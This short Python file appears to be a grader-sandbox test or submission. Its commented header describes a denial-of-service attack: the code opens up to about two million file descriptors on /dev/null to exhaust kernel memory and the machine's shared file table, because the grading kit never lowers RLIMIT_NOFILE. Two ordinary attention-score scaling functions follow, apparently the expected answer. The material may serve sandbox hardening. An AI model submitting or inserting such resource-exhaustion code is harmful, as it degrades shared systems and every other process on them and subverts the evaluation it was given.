# Attack: the kit never lowers RLIMIT_NOFILE: a child opens as many files as the grader's own limit
# allows (Docker's default is 1048576): kernel memory (struct file, fd tables) outside any limit,
# and a large share of the machine's file table (fs.file-max), shared with every other process.
import math, os, time
fds = []
try:
    while len(fds) < int(os.environ.get("ATTACK_FDS", 1 << 21)):
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    print("ATTACK stopped", e)
os.close(fds.pop())
print("ATTACK open fds", len(fds), open("/proc/sys/fs/file-nr").read().strip())
time.sleep(3)
for fd in fds:
    os.close(fd)

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
